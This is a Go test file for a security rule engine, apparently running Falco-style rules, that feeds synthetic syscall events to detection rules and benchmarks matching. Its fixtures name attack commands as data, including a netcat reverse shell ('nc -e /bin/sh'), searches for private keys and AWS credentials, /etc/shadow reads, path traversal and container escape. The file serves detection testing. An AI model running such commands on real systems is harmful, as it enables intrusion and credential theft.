package rules_test

import (
	"maps"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/tiercel/tiercel/pkg/alert"
	"github.com/tiercel/tiercel/pkg/rules"
	"github.com/tiercel/tiercel/pkg/rules/event"
	"github.com/tiercel/tiercel/pkg/rules/field"
	"github.com/tiercel/tiercel/pkg/rules/load"
)

// process are the fields that every event of a process has.
func process(more map[string]any) map[string]any {
	fields := map[string]any{
		"proc.name": "bash", "proc.exe": "bash", "proc.exepath": "/usr/bin/bash", "proc.args": "", "proc.cmdline": "bash", "proc.pname": "sshd",
		"proc.pcmdline": "sshd", "proc.pexe": "sshd", "proc.cwd": "/root/", "proc.tty": uint64(34816), "proc.pid": 100, "proc.ppid": 99,
		"proc.duration": uint64(1000), "proc.is_exe_upper_layer": false, "proc.is_exe_from_memfd": false, "proc.aname[1]": "sshd", "proc.aname[2]": "sshd",
		"proc.aname[3]": "systemd", "user.name": "root", "user.uid": uint64(0), "user.loginuid": 1000, "container.id": "host", "container.name": "host",
		"container.image.repository": "", "container.privileged": false, "thread.cap_effective": "CAP_CHOWN", "evt.res": "SUCCESS", "evt.rawres": 0,
	}
	maps.Copy(fields, more)
	return fields
}

func inContainer(more map[string]any) map[string]any {
	fields := process(map[string]any{"container.id": "3ad7b26ded6d", "container.name": "web", "container.image.repository": "docker.io/library/web"})
	maps.Copy(fields, more)
	return fields
}

func file(name, mode string, more map[string]any) map[string]any {
	fields := process(map[string]any{
		"fd.name": name, "fd.directory": name[:strings.LastIndexByte(name, '/')], "fd.filename": name[strings.LastIndexByte(name, '/')+1:], "fd.typechar": "f",
		"fd.num": 3, "fd.nameraw": name, "evt.is_open_read": mode == "r", "evt.is_open_write": mode == "w", "proc.name": "thing", "proc.cmdline": "thing",
	})
	maps.Copy(fields, more)
	return fields
}

type firing struct {
	typ    string
	fields map[string]any
}

// firings has an event for each of the stable rules.
func firings() map[string]firing {
	return map[string]firing{
		"Directory traversal monitored file read": {"openat", file("/etc/passwd", "r", map[string]any{"fd.nameraw": "../../../etc/passwd", "proc.pname": "nginx"})},
		"Read sensitive file trusted after startup": {"open", file("/etc/shadow", "r", map[string]any{
			"proc.name": "nginx", "proc.duration": uint64(6_000_000_000),
		})},
		"Read sensitive file untrusted": {"openat2", file("/etc/shadow", "r", nil)},
		"Run shell untrusted": {"execve", process(map[string]any{
			"proc.pname": "nginx", "proc.aname[1]": "nginx", "proc.pexe": "nginx", "proc.pcmdline": "nginx", "proc.cmdline": "bash -c id",
		})},
		"System user interactive":     {"execve", process(map[string]any{"user.name": "bin", "proc.name": "id", "proc.cmdline": "id"})},
		"Terminal shell in container": {"execve", inContainer(map[string]any{"proc.pname": "containerd-shim", "proc.name": "sh"})},
		"Contact K8S API Server From Container": {"connect", inContainer(map[string]any{
			"fd.typechar": "4", "fd.sip.name": "kubernetes.default.svc.cluster.local", "k8s.ns.name": "shop",
		})},
		"Netcat Remote Code Execution in Container": {"execve", inContainer(map[string]any{
			"proc.name": "nc", "proc.args": "-e /bin/sh 10.0.0.1 1", "proc.cmdline": "nc -e /bin/sh 10.0.0.1 1", "proc.tty": uint64(0), "proc.pname": "bash",
		})},
		"Search Private Keys or Passwords":                         {"execve", process(map[string]any{"proc.name": "find", "proc.args": "/ -name id_rsa", "proc.pname": "bash"})},
		"Clear Log Activities":                                     {"openat", file("/var/log/syslog", "w", map[string]any{"evt.arg.flags": "O_TRUNC|O_WRONLY", "proc.name": "sh"})},
		"Remove Bulk Data from Disk":                               {"execve", process(map[string]any{"proc.name": "shred", "proc.pname": "bash"})},
		"Create Symlink Over Sensitive Files":                      {"symlinkat", process(map[string]any{"evt.arg.target": "/etc/shadow"})},
		"Create Hardlink Over Sensitive Files":                     {"linkat", process(map[string]any{"evt.arg.oldpath": "/etc/shadow"})},
		"Packet socket created in container":                       {"socket", inContainer(map[string]any{"evt.arg.domain": "AF_PACKET"})},
		"Redirect STDOUT/STDIN to Network Connection in Container": {"dup2", inContainer(map[string]any{"evt.rawres": 1, "fd.type": "ipv4"})},
		"Linux Kernel Module Injection Detected":                   {"finit_module", inContainer(map[string]any{"thread.cap_effective": "CAP_CHOWN CAP_SYS_MODULE"})},
		"Debugfs Launched in Privileged Container": {"execve", inContainer(map[string]any{
			"proc.name": "debugfs", "container.privileged": true, "proc.tty": uint64(0), "proc.pname": "bash",
		})},
		"Detect release_agent File Container Escapes": {"openat", func() map[string]any {
			f := inContainer(file("/sys/fs/cgroup/release_agent", "w", nil))
			maps.Copy(f, map[string]any{"thread.cap_effective": "CAP_DAC_OVERRIDE CAP_SYS_ADMIN", "container.id": "3ad7b26ded6d"})
			return f
		}()},
		"PTRACE attached to process":               {"ptrace", process(map[string]any{"evt.arg.request": "PTRACE_ATTACH"})},
		"PTRACE anti-debug attempt":                {"ptrace", process(map[string]any{"evt.arg.request": "PTRACE_TRACEME"})},
		"Find AWS Credentials":                     {"execve", process(map[string]any{"proc.name": "grep", "proc.args": "-r aws_access_key_id /root", "proc.pname": "bash"})},
		"Execution from /dev/shm":                  {"execve", process(map[string]any{"proc.name": "x", "proc.exe": "/dev/shm/x"})},
		"Drop and execute new binary in container": {"execve", inContainer(map[string]any{"proc.is_exe_upper_layer": true, "proc.tty": uint64(0), "proc.pname": "bash"})},
		"Disallowed SSH Connection Non Standard Port": {"connect", process(map[string]any{
			"proc.exe": "/usr/bin/ssh", "fd.typechar": "4", "fd.l4proto": "tcp", "fd.sport": uint64(443), "fd.ip": []any{addr("10.0.0.5"), addr("93.184.216.34")},
			"fd.net": []any{addr("10.0.0.5"), addr("93.184.216.34")}, "fd.snet": addr("93.184.216.34"), "fd.connected": false, "fd.name_changed": true,
		})},
		"Fileless execution via memfd_create": {"execve", process(map[string]any{"proc.is_exe_from_memfd": true, "proc.exepath": "memfd:x"})},
	}
}

func TestStableRulesFire(t *testing.T) {
	for _, name := range [][]string{{"rules", "falco_rules.yaml"}, {"rules", "releases", "falco-rules-5.0.0.yaml"}, {"rules", "releases", "falco-rules-3.0.1.yaml"}} {
		set := compile(t, rules.Options{MatchAll: true}, string(shared(t, name...)))
		quiet := newEvent(t, "execve", process(map[string]any{"proc.name": "ls"}))
		if got := set.Match(nil, quiet); len(got) != 0 {
			t.Errorf("%v: %s fires for ls", name, got[0].Name)
		}
		all := firings()
		for _, rule := range set.Rules() {
			if rule.Condition.Types.Len() == 0 {
				continue // asks for enter events; see the loader's tests
			}
			f, ok := all[rule.Name]
			if !ok {
				t.Errorf("%v: no event for %s", name, rule.Name)
				continue
			}
			ev := newEvent(t, f.typ, f.fields)
			var fired []string
			for _, r := range set.Match(nil, ev) {
				fired = append(fired, r.Name)
				a := rules.Printer{Hostname: "node"}.Alert(r, ev)
				if _, err := alert.DecodeOne(rules.AppendJSON(nil, a), at); err != nil {
					t.Errorf("%s: %v", r.Name, err)
				}
			}
			if !slices.Contains(fired, rule.Name) {
				t.Errorf("%v: %s does not fire, but %q", name, rule.Name, fired)
			}
		}
	}
}

func TestSeedRulesFire(t *testing.T) {
	set := compile(t, rules.Options{MatchAll: true}, string(shared(t, "seed_rules_reconstructed.yaml")))
	ssh := process(map[string]any{"fd.sport": uint64(22), "fd.cip": addr("192.0.2.7"), "fd.cport": uint64(51000), "fd.sip": addr("192.0.2.1")})
	for want, f := range map[string]firing{
		"Terminal shell in container":                            {"execve", inContainer(map[string]any{"proc.pname": "containerd-shim", "proc.name": "sh"})},
		"Inbound SSH Connection":                                 {"accept", ssh},
		"shell_in_container, shell_in_container (mkdir variant)": {"execve", inContainer(map[string]any{"proc.pname": "sh", "proc.name": "ls"})},
		"shell_in host":                                          {"execve", process(map[string]any{"proc.pname": "sh", "proc.name": "ls"})},
		"shell_in_container (mkdir variant)":                     {"mkdir", inContainer(map[string]any{"proc.pname": "sh", "proc.name": "mkdir"})},
		"shell_in_container (openat variant)":                    {"openat", inContainer(map[string]any{"fd.filename": "example.txt", "fd.name": "/example.txt"})},
		"":                                                       {"execve", inContainer(map[string]any{"proc.pname": "bash", "proc.name": "ls"})},
	} {
		var names []string
		for _, r := range set.Match(nil, newEvent(t, f.typ, f.fields)) {
			names = append(names, r.Name)
		}
		if got := strings.Join(names, ", "); got != want {
			t.Errorf("%q fires, want %q", got, want)
		}
	}
}

// TestWhatIsNotSupplied shows the warnings for rules that ask for more than there is.
func TestWhatIsNotSupplied(t *testing.T) {
	supply := &load.Supply{
		Type: func(e event.Type) bool {
			return e.String() != "ptrace" && e.String() != "socket" && e.String() != "openat2"
		},
		Field: func(ref field.Ref, _ event.Set) bool {
			return ref.ID != field.ContainerPrivileged && ref.ID != field.FdNameraw && ref.Text != "evt.arg.target"
		},
	}
	l := load.New(load.Options{Supply: supply})
	r := l.Load("falco_rules.yaml", string(shared(t, "rules", "falco_rules.yaml")))
	if !r.OK() {
		t.Fatal(r)
	}
	got := map[string]string{}
	for _, w := range r.Warnings {
		if w.Code == load.WarnNotSupplied {
			got[w.Where.Locations[1].Name] = w.Message
		}
	}
	for name, want := range map[string]string{
		"PTRACE attached to process":               "no event of its types (ptrace) is supplied, so it can never fire",
		"Debugfs Launched in Privileged Container": "fields of the condition that never have a value: container.privileged",
		"Create Symlink Over Sensitive Files":      "fields of the condition that never have a value: evt.arg.target",
		"Directory traversal monitored file read":  "events not supplied: openat2; fields of the condition that never have a value: fd.nameraw",
		"Terminal shell in container":              "",
	} {
		if got[name] != want {
			t.Errorf("%s: %q, want %q", name, got[name], want)
		}
	}
}

func TestMatchAllocatesNothing(t *testing.T) {
	set := compile(t, rules.Options{}, string(shared(t, "rules", "falco_rules.yaml")))
	dst := make([]*rules.Rule, 0, 4)
	for name, ev := range streams(t) {
		if n := testing.AllocsPerRun(100, func() { dst = set.Match(dst[:0], ev) }); n != 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}

// quick is an event whose fields cost as little as those of a real one: a look into an array.
type quick struct {
	typ    event.Type
	plain  [field.Count]field.Value
	anames [8]field.Value
	either [2]field.Value
}

func (q *quick) Type() event.Type { return q.typ }

func (q *quick) Field(id field.ID, arg field.Arg) field.Value {
	switch id {
	case field.ProcAname:
		if arg.Index < len(q.anames) {
			return q.anames[arg.Index]
		}
		return field.Value{}
	case field.FdIP, field.FdNet:
		return q.either[arg.At&1]
	}
	return q.plain[id]
}

func quicken(t testing.TB, name string, fields map[string]any) *quick {
	f := newEvent(t, name, fields)
	q := &quick{typ: f.typ, plain: f.byID}
	for i, known := range []string{"proc.aname[0]", "proc.aname[1]", "proc.aname[2]", "proc.aname[3]"} {
		q.anames[i] = value(f.fields[known])
	}
	q.either = [2]field.Value{field.Addr(addr("10.0.0.5")), field.Addr(addr("10.0.0.6"))}
	return q
}

// streams are events of a busy node that match nothing.
func streams(t testing.TB) map[string]*quick {
	return map[string]*quick{
		"exec":    quicken(t, "execve", process(map[string]any{"proc.name": "ls", "proc.args": "-la /tmp", "proc.cmdline": "ls -la /tmp", "proc.aname[0]": "ls"})),
		"open":    quicken(t, "openat", file("/usr/lib/x86_64-linux-gnu/libc.so.6", "r", map[string]any{"evt.arg.flags": "O_RDONLY|O_CLOEXEC"})),
		"write":   quicken(t, "openat", file("/tmp/some/file.txt", "w", map[string]any{"evt.arg.flags": "O_WRONLY|O_CREAT"})),
		"connect": quicken(t, "connect", process(map[string]any{"fd.typechar": "4", "fd.sport": uint64(443), "fd.l4proto": "tcp", "proc.exe": "curl"})),
		"other":   quicken(t, "close", process(nil)),
	}
}

func BenchmarkMatch(b *testing.B) {
	set := compile(b, rules.Options{}, string(shared(b, "rules", "falco_rules.yaml")))
	dst := make([]*rules.Rule, 0, 4)
	for name, ev := range streams(b) {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				dst = set.Match(dst[:0], ev)
			}
			if len(dst) != 0 {
				b.Fatalf("%s matches", dst[0].Name)
			}
		})
	}
	b.Run("shell in container", func(b *testing.B) {
		f := firings()["Terminal shell in container"]
		ev := quicken(b, f.typ, f.fields)
		printer := rules.Printer{Hostname: "node"}
		b.ReportAllocs()
		for b.Loop() {
			dst = set.Match(dst[:0], ev)
			_ = printer.Alert(dst[0], ev)
		}
	})
}

// TestNeedsOfRules compares the event types and fields that we find with those that were found by other means.
func TestNeedsOfRules(t *testing.T) {
	data, err := os.ReadFile("../../../shared/facts/falco_all_rules_needs.tsv")
	if err != nil {
		t.Skipf("the table is not here: %v", err)
	}
	loaded := map[string]*rules.Rule{}
	for set, name := range map[string][]string{"stable": {"rules", "falco_rules.yaml"}, "seed": {"seed_rules_reconstructed.yaml"}} {
		for _, r := range compile(t, rules.Options{}, string(shared(t, name...))).Rules() {
			loaded[set+" "+r.Name] = r
		}
	}
	compared := 0
	for _, row := range strings.Split(strings.TrimSpace(string(data)), "\n")[1:] {
		columns := strings.Split(row, "\t")
		for name := range strings.SplitSeq(columns[2], ",") {
			if _, ok := event.Lookup(name); !ok {
				t.Errorf("%s: no event type %s", columns[1], name)
			}
		}
		for name := range strings.SplitSeq(columns[3], ",") {
			if _, n, err := field.Prefix(event.Syscall, name); err != nil || n != len(name) {
				t.Errorf("%s: no field %s: %v", columns[1], name, err)
			}
		}
		r, ok := loaded[columns[0]+" "+columns[1]]
		if !ok {
			continue // its file is not here
		}
		compared++
		var types, fields []string
		for e := range r.Condition.Types.All() {
			types = append(types, e.String())
		}
		for _, ref := range r.Condition.Refs {
			fields = append(fields, ref.Text)
		}
		slices.Sort(fields)
		if got := strings.Join(types, ","); got != columns[2] {
			t.Errorf("%s: types %s, want %s", r.Name, got, columns[2])
		}
		if got := strings.Join(fields, ","); got != columns[3] {
			t.Errorf("%s: fields\n%s, want\n%s", r.Name, got, columns[3])
		}
	}
	if compared != 31 {
		t.Errorf("%d rules compared", compared)
	}
}
